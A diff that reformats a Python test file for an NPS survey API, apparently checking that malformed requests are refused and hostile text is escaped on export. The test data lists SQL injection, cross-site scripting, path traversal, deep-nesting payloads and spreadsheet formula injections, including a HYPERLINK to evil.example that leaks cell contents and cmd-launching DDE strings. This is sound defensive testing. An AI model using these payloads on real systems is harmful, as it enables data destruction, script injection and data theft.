@@ -23,7 +23,10 @@ MALFORMED_BODIES: list[tuple[str, bytes]] = [
     ("NaN", b'{"email": "a@example.com", "score": NaN}'),
     ("invalid utf-8", b'{"email": "a@example.com", "score": 7, "comment": "\xff\xfe\xfa"}'),
     ("lone surrogate", b'{"email": "a@example.com", "score": 7, "comment": "\\ud800"}'),
-    ("deep nesting", b'{"email": "a@example.com", "score": 7, "custom": ' + b'{"a": ' * 5000 + b"1" + b"}" * 5001),
+    (
+        "deep nesting",
+        b'{"email": "a@example.com", "score": 7, "custom": ' + b'{"a": ' * 5000 + b"1" + b"}" * 5001,
+    ),
     ("deep array", b"[" * 100_000 + b"]" * 100_000),
     ("not an object", b'"just a string"'),
     ("array instead of object", b'[{"email": "a@example.com", "score": 7}]'),
@@ -62,9 +65,14 @@ def test_malformed_record_bodies_are_refused(client: Any, tenant: Tenant, label:
 
 
 def test_malformed_bulk_bodies_are_refused_whole(client: Any, tenant: Tenant) -> None:
-    for body in (b"{", b'{"email": "a@example.com"}', b"[" * 50_000 + b"]" * 50_000, b"\xff",
-                 orjson.dumps([{"email": f"u{i}@example.com", "score": 1} for i in range(5001)]),
-                 orjson.dumps(["x" * 10] * 10)):
+    for body in (
+        b"{",
+        b'{"email": "a@example.com"}',
+        b"[" * 50_000 + b"]" * 50_000,
+        b"\xff",
+        orjson.dumps([{"email": f"u{i}@example.com", "score": 1} for i in range(5001)]),
+        orjson.dumps(["x" * 10] * 10),
+    ):
         r = client.put("/nps", content=body, headers={**tenant.editor, **JSON})
         assert r.status_code in (206, 400), r.text[:200]
         if r.status_code == 206:
@@ -72,35 +80,59 @@ def test_malformed_bulk_bodies_are_refused_whole(client: Any, tenant: Tenant) ->
     assert count(client, tenant) == 0
 
 
-@pytest.mark.parametrize("path", ["/companies", "/endusers", "/v1/nps-surveys", "/v1/webhooks", "/v1/unsubscribes"])
+@pytest.mark.parametrize(
+    "path", ["/companies", "/endusers", "/v1/nps-surveys", "/v1/webhooks", "/v1/unsubscribes"]
+)
 def test_malformed_bodies_elsewhere(client: Any, tenant: Tenant, path: str) -> None:
-    for body in (b"{", b"[]", b'{"name": "a\\u0000b", "email": "a\\u0000@x.com"}', b"\xff\xfe",
-                 b'{"name": ' + b"[" * 5000 + b"]" * 5000 + b"}", orjson.dumps({"name": "n" * 100_000}),
-                 b'{"name": "\\ud800", "email": "\\ud800@x.com", "url": "http://\\ud800/"}',
-                 b'{"name": "n", "email": "n@example.com", "custom": {"big": 1e30}}'):
+    for body in (
+        b"{",
+        b"[]",
+        b'{"name": "a\\u0000b", "email": "a\\u0000@x.com"}',
+        b"\xff\xfe",
+        b'{"name": ' + b"[" * 5000 + b"]" * 5000 + b"}",
+        orjson.dumps({"name": "n" * 100_000}),
+        b'{"name": "\\ud800", "email": "\\ud800@x.com", "url": "http://\\ud800/"}',
+        b'{"name": "n", "email": "n@example.com", "custom": {"big": 1e30}}',
+    ):
         r = client.post(path, content=body, headers={**tenant.admin, **JSON})
         assert 400 <= r.status_code < 500, (path, body[:40], r.status_code, r.text[:200])
         assert_error(r, r.status_code)
 
 
-@pytest.mark.parametrize(("path", "params"), [
-    ("/nps", {"limit": "ten"}), ("/nps", {"limit": "-1"}), ("/nps", {"offset": "1e9999"}),
-    ("/nps", {"since": "not-a-date"}), ("/nps", {"sort": "'; DROP TABLE nps_record; --"}),
-    ("/nps", {"companyId": "abc\x00"}), ("/nps", {"email": "x" * 5000}), ("/nps", {"select": "\x00"}),
-    ("/nps", {"scoreType": "<script>"}), ("/companies", {"sort": "password"}),
-    ("/v1/nps-surveys", {"sortBy": "id; DROP"}), ("/v1/nps-surveys", {"limit": "1000"}),
-    ("/v1/nps-surveys/nps-metrics", {"interval": "fortnight"}),
-    ("/v1/nps-surveys/nps-metrics", {"since": "2026-02-30"}),
-    ("/nps/export", {"format": "exe"}),
-])
+@pytest.mark.parametrize(
+    ("path", "params"),
+    [
+        ("/nps", {"limit": "ten"}),
+        ("/nps", {"limit": "-1"}),
+        ("/nps", {"offset": "1e9999"}),
+        ("/nps", {"since": "not-a-date"}),
+        ("/nps", {"sort": "'; DROP TABLE nps_record; --"}),
+        ("/nps", {"companyId": "abc\x00"}),
+        ("/nps", {"email": "x" * 5000}),
+        ("/nps", {"select": "\x00"}),
+        ("/nps", {"scoreType": "<script>"}),
+        ("/companies", {"sort": "password"}),
+        ("/v1/nps-surveys", {"sortBy": "id; DROP"}),
+        ("/v1/nps-surveys", {"limit": "1000"}),
+        ("/v1/nps-surveys/nps-metrics", {"interval": "fortnight"}),
+        ("/v1/nps-surveys/nps-metrics", {"since": "2026-02-30"}),
+        ("/nps/export", {"format": "exe"}),
+    ],
+)
 def test_malformed_parameters(client: Any, tenant: Tenant, path: str, params: dict[str, str]) -> None:
     r = client.get(path, params=params, headers=tenant.viewer)
     assert_error(r, 400)
 
 
 def test_malformed_ids_and_paths(client: Any, tenant: Tenant) -> None:
-    for path in ("/nps/%00", "/nps/" + "a" * 5000, "/companies/extid-%00", "/v1/nps-surveys/%2e%2e",
-                 "/v1/webhooks/zzz", "/endusers/srcid-" + "\u202e" * 10):
+    for path in (
+        "/nps/%00",
+        "/nps/" + "a" * 5000,
+        "/companies/extid-%00",
+        "/v1/nps-surveys/%2e%2e",
+        "/v1/webhooks/zzz",
+        "/endusers/srcid-" + "\u202e" * 10,
+    ):
         r = client.get(path, headers=tenant.admin)
         assert r.status_code in (400, 404), (path, r.status_code, r.text[:200])
         assert_error(r, r.status_code)
@@ -108,10 +140,10 @@ def test_malformed_ids_and_paths(client: Any, tenant: Tenant) -> None:
 
 HOSTILE_TEXT = [
     "<script>alert('x')</script>",
-    "\"><img src=x onerror=alert(1)>",
+    '"><img src=x onerror=alert(1)>',
     "'; DROP TABLE nps_record; --",
     "Robert'); DELETE FROM enduser WHERE ('1'='1",
-    "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
+    '=HYPERLINK("http://evil.example/?"&A1,"click")',
     "+cmd|' /C calc'!A0",
     "-2+3+cmd|' /C calc'!A0",
     "@SUM(1+1)*cmd|' /C calc'!A0",
@@ -125,8 +157,17 @@ HOSTILE_TEXT = [
 def test_hostile_text_is_stored_verbatim_and_escaped_on_export(client: Any, tenant: Tenant) -> None:
     ids = []
     for i, text in enumerate(HOSTILE_TEXT):
-        r = client.post("/nps", json={"email": f"h{i}@example.com", "score": i % 11, "comment": text,
-                                      "source": text[:200], "custom": {"note": text}}, headers=tenant.editor)
+        r = client.post(
+            "/nps",
+            json={
+                "email": f"h{i}@example.com",
+                "score": i % 11,
+                "comment": text,
+                "source": text[:200],
+                "custom": {"note": text},
+            },
+            headers=tenant.editor,
+        )
         assert r.status_code == 200, r.text
         ids.append(r.json()["_id"])
     for rid, text in zip(ids, HOSTILE_TEXT, strict=True):
@@ -142,19 +183,25 @@ def test_hostile_text_is_stored_verbatim_and_escaped_on_export(client: Any, tena
             assert by_comment["'" + text]["custom.note"] == "'" + text
         else:
             assert text in by_comment, text
-    as_json = client.get("/nps/export", params={"format": "json", "npsExpiryDay": 0}, headers=tenant.viewer).json()
+    as_json = client.get(
+        "/nps/export", params={"format": "json", "npsExpiryDay": 0}, headers=tenant.viewer
+    ).json()
     assert sorted(r["comment"] for r in as_json) == sorted(HOSTILE_TEXT)
 
 
-@pytest.mark.parametrize(("path", "body", "field"), [
-    ("/companies", {"name": "n", "custom": {"big": 1e30}}, "custom"),
-    ("/endusers", {"email": "big@example.com", "custom": {"nested": [{"big": -(2**70)}]}}, "custom"),
-    ("/companies", {"name": "\ud800"}, "name"),
-    ("/endusers", {"email": "x@example.com", "name": "a\ud800b"}, "name"),
-    ("/v1/nps-surveys", {"name": "survey \udfff"}, "name"),
-])
-def test_unstorable_values_are_refused_everywhere(client: Any, tenant: Tenant, path: str, body: dict[str, Any],
-                                                  field: str) -> None:
+@pytest.mark.parametrize(
+    ("path", "body", "field"),
+    [
+        ("/companies", {"name": "n", "custom": {"big": 1e30}}, "custom"),
+        ("/endusers", {"email": "big@example.com", "custom": {"nested": [{"big": -(2**70)}]}}, "custom"),
+        ("/companies", {"name": "\ud800"}, "name"),
+        ("/endusers", {"email": "x@example.com", "name": "a\ud800b"}, "name"),
+        ("/v1/nps-surveys", {"name": "survey \udfff"}, "name"),
+    ],
+)
+def test_unstorable_values_are_refused_everywhere(
+    client: Any, tenant: Tenant, path: str, body: dict[str, Any], field: str
+) -> None:
     raw = json.dumps(body).encode()  # stdlib json writes lone surrogates and huge integers as given
     r = client.post(path, content=raw, headers={**tenant.admin, **JSON})
     assert_error(r, 400, field)
